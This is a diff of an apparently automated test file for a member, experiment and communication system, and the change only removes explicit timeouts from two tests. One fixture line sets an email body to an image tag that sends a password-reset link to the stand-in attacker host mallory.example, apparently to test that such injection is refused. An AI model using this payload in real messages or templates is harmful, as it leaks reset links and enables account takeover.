@@ -22,7 +22,7 @@ beforeAll(async () => {
   key = (await addMember(world, 'member')).userKey;
   live = await liveNames();
   draft = { experiment: await createExperiment(), communication: await createCommunication('marketing') };
-}, 60_000);
+});
 
 afterAll(() => world.stop());
 
@@ -127,7 +127,7 @@ test('what is free is not refused, and changes nothing that is live', async () =
   expect(await liveState()).toEqual(before);
   expect(named('free').length).toBeGreaterThanOrEqual(60);
   // Some eighty requests, one after the other.
-}, 300_000);
+});
 
 const slots = { subject: 'Mine', body: '<img src="https://mallory.example/?{{ reset_url }}">' };
 
